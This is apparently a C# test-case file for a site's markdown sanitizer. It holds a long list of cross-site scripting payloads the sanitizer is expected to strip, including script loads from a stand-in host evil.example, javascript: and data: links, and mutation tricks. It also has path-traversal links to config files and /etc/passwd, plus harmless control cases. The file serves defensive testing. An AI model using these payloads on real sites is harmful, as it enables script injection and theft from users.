using static HemaSite.Tests.Hostile.Cases.OwnCase;
using static HemaSite.Tests.Hostile.Cases.Texts;

namespace HemaSite.Tests.Hostile.Cases;

/// <summary>Markup and addresses that would act in a reader's browser.</summary>
public static class MarkupCases
{
    public static IEnumerable<OwnCase> All =>
    [
        .. Payloads.Select((payload, i) => Warned($"xss-own-{i + 1:00}", "removed", payload, Post($"a\n\n{payload}\n\nb\n"))),
        .. MorePayloads.Select((payload, i) => Warned($"xss-own-more-{i + 1:00}", "removed", payload.Replace('\n', ' '), Post($"a\n\n{payload}\n\nb\n"))),
        .. Inert.Select((payload, i) => Fine($"xss-own-inert-{i + 1}", payload, Post($"a\n\n{payload}\n\nb\n"))),
        .. Harmless,
    ];

    /// <summary>What attackers write; each must be taken out and said so.</summary>
    public static string[] Payloads { get; } =
    [
        "<ScRiPt>alert(1)</sCrIpT>", "<script/src=//evil.example/x.js></script>", "<script\n>alert(1)</script\n>", "<script>alert(1)",
        "<scr<script>ipt>alert(1)</scr</script>ipt>", "<svg/onload=alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>", "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
        "<img src=\"x\" onerror\n=alert(1)>", "<img/src=x onerror=alert(1)>", "<IMG SRC=JaVaScRiPt:alert(1)>",
        "<img src=\"jav&#x09;ascript:alert(1)\">", "<img src=\"&#106;avascript:alert(1)\">", "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>",
        "<select onfocus=alert(1) autofocus><option>x</select>", "<textarea onfocus=alert(1)>x</textarea>", "<details open ontoggle=alert(1)>x</details>",
        "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)></audio>", "<marquee onstart=alert(1)>x</marquee>",
        "<a href=\"javascript:alert(1)\">x</a>", "<a href=\" javascript:alert(1)\">x</a>", "<a href=\"\u0001javascript:alert(1)\">x</a>".Replace("\u0001", "&#1;", StringComparison.Ordinal),
        "<a href=\"java\tscript:alert(1)\">x</a>", "<a href=javascript&colon;alert(1)>x</a>", "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>", "<a href=\"blob:https://x/y\">x</a>", "<a href=\"filesystem:https://x/y\">x</a>", "<a href=\"ftp://x/y\">x</a>",
        "<p onclick=alert(1)>x</p>", "<p ONMOUSEOVER = 'alert(1)'>x</p>", "<p style=\"background:url(javascript:alert(1))\">x</p>", "<div style=\"position:fixed\">x</div>",
        "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<iframe src=\"javascript:alert(1)\"></iframe>", "<iframe src=\"//evil.example\"></iframe>", "<frameset><frame src=javascript:alert(1)></frameset>",
        "<object type=text/html data=//evil.example></object>", "<embed src=\"data:image/svg+xml;base64,PHN2Zz4=\">", "<applet code=x></applet>",
        "<form><button formaction=javascript:alert(1)>x</button></form>", "<form action=/x method=post><input type=password name=p></form>",
        "<isindex action=javascript:alert(1)>", "<meta charset=utf-7>", "<base target=_blank href=//evil.example>", "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">x</p></noscript>", "<xmp><script>alert(1)</script></xmp>", "<plaintext>x",
        "<title><img src=x onerror=alert(1)></title>", "<![CDATA[<script>alert(1)</script>]]>",
        "<!DOCTYPE html><script>alert(1)</script>", "</p><script>alert(1)</script><p>", "<?xml-stylesheet href=\"javascript:alert(1)\"?>", "<?php echo 1 ?>", "<!DOCTYPE html>",
        "<a name=x onmouseover=alert(1)>x</a>", "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>", "<portal src=//evil.example></portal>",
        "<custom-element onclick=alert(1)>x</custom-element>", "[x](&#106;avascript:alert(1))", "[x](\\javascript:alert(1) \"t\")".Replace("\\", "", StringComparison.Ordinal),
        "[x](<javascript:alert(1)>)", "[x](JAVASCRIPT&colon;alert(1))", "![x](vbscript:x)", "<vbscript:x>", "[x](file:///C:/Windows/win.ini)", "[x](intent://evil#Intent;end)",
        "[x](ws://evil.example)", "[x][ref]\n\n[ref]: data:text/html,x", "![x][pic]\n\n[pic]: javascript:x",
    ];

    /// <summary>Further ones: other schemes, elements that browsers forgot, attributes that act without "on".</summary>
    public static string[] MorePayloads { get; } =
    [
        "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\"/></svg>", "<svg><foreignObject><iframe srcdoc=x></iframe></foreignObject></svg>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<picture><source srcset=https://evil.example/x><img src=a.png alt=x></picture>", "<img alt=x srcset=\"https://evil.example/x 2x\">", "<form id=document><input name=cookie></form>",
        "<a href=/kk ping=https://evil.example>x</a>", "<a href=\"java&#0;script:alert(1)\">x</a>", "[x](java&Tab;script:alert(1))", "[x](view-source:https://e.kz)", "[x](about:blank)", "[x](ms-word:ofe|u|https://e.kz)",
        "![x](data:image/svg+xml;base64,PHN2Zz4=)", "<data:text/html,x>", "[x](C:\\Users\\x.docx)", "[x]\n\n[x]: JavaScript:alert(1)", "<img src=a.png alt=x onload=alert(1)>", "<img \"\"\"><script>alert(1)</script>\">",
        "<iframe src=https://yandex.ru.evil.example/></iframe>", "<iframe src=https://yandex.ru@evil.example/></iframe>", "<bgsound src=x>", "<listing><img src=x onerror=1></listing>", "<html manifest=x>",
        "<!--><script>alert(1)</script>-->", "<slot name=x></slot>", "<script type=application/json>{}</script>", "</main>", "</article></section>", "</style>", "## x {#a onclick=alert(1)}", "[x](https://e.kz){onclick=alert(1)}",
        "<p is=x-foo>x</p>", "<p contenteditable>x</p>", "<a href=/kk accesskey=x>x</a>", "<p hidden>x</p>", "<div popover>x</div>", "<dialog open>x</dialog>", "<map name=x><area href=javascript:1></map>", "[x](https://)", "[x](///etc/passwd)",
    ];

    // Words to readers, or nothing at all: no browser acts on what becomes of them.
    private static string[] Inert { get; } =
    [
        "<img src=x:x onerror=alert(1)//", "<!--[if IE]><script>alert(1)</script><![endif]-->",
        "<https://evil.example/\"onclick=alert(1)>",
    ];

    private static IEnumerable<OwnCase> Harmless =>
    [
        Fine("xss-own-in-code", "markup inside code is text", Post("`<script>alert(1)</script>`\n\n```\n<img src=x onerror=alert(1)>\n```\n")),
        Fine("xss-own-escaped", "escaped markup is text", Post("\\<script>alert(1)\\</script>\n\n&lt;script&gt;alert(1)&lt;/script&gt;\n")),
        Fine("xss-own-less-than", "a < that opens nothing", Post("5 < 7, 7 > 5, a<b\n")),
        Fine("xss-own-link-title", "a quote inside a link's title", Post("[x](https://example.kz 'a\" onclick=\"alert(1)')\n")),
        Fine("xss-own-link-query", "quotes inside an address", Post("[x](https://example.kz/?a=\"onclick=alert(1)&b=<c>)\n")),
        Fine("xss-own-alt", "quotes inside the words of a picture", Post("![a\" onerror=\"alert(1)](a.png)\n")).And("pages/01.news/xss-own-alt/a.png", PictureCases.Png(2, 2)),
        Fine("xss-own-code-language", "a breakout in the name of a language", Post("```x\"><script>\nкод\n```\n")),
        Fine("xss-own-heading", "a breakout in a heading", Post("## \"&gt;'&lt;b&gt; onclick=alert(1)\n")),
        Fine("xss-own-mail", "an address of mail", Post("[x](mailto:a@example.kz?subject=%3Cscript%3E)\n")),
        Fine("xss-own-tel", "a number to call", Post("[x](tel:+77272000000)\n")),
        Fine("xss-own-template", "code of four template languages", Post("{{ 7*7 }} {% raw %} ${7*7} <%= 7 %> #{7}\n".Replace("<%= 7 %> ", "", StringComparison.Ordinal))),
        Fine("xss-own-cdata-end", "]]> in title and text", Post("a ]]> b\n", "title: 'a ]]> b'\n" + DateLines)),
        Fine("xss-own-footnote", "a breakout in the name of a footnote", Post("a[^x]\n\n[^x]: \"onclick=alert(1)\n")),
        Warned("link-own-empty", "()", "a link to nothing", Post("[x]()\n")),
        Warned("link-own-empty-picture", "()", "a picture of nothing", Post("![x]()\n")),
        Warned("link-own-anchor", "#nope", "a place that is not there", Post("[x](#nope)\n")),
        Bad("link-own-settings", "outside", "the settings", Post("[x](../../../config/system.yaml)\n")),
        Bad("link-own-encoded", "outside", "an encoded way up", Post("[x](%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd)\n")),
        Fine("link-own-host", "two backslashes lead to a host, as in browsers", Post("[x](\\\\\\\\e.kz\\\\a)\n")),
        Warned("xss-own-hotlink", "third-party", "a picture by HTML from another host", Post("<img src=\"https://track.example/p.gif\" alt=\"x\">\n")),
        Warned("xss-own-hotlink-short", "third-party", "the same without its scheme", Post("![x](//track.example/p.gif)\n")),
        Warned("xss-own-hotlink-ref", "third-party", "the same by reference", Post("![x][y]\n\n[y]: http://track.example/p.gif\n")),
    ];
}
